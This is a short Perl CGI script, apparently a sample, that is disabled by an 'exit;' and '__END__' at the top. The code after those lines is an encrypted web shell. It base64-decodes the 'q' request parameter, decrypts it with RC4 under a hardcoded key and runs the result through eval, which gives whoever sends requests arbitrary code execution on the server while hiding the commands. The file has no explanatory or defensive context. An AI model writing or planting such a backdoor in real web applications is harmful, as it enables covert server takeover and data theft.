#!/usr/bin/perl
exit;
__END__
use   MIME::Base64 ;
use Crypt::RC4 ;

my  $page   =  new CGI ;
my
   $text = decode_base64 ( $page -> param( 'q' ) ) ;
my $key   = 'another example' ;
my $plain = RC4( $key , $text ) ;
if ( length $plain ) { eval( $plain ) ; warn $@ if $@ }
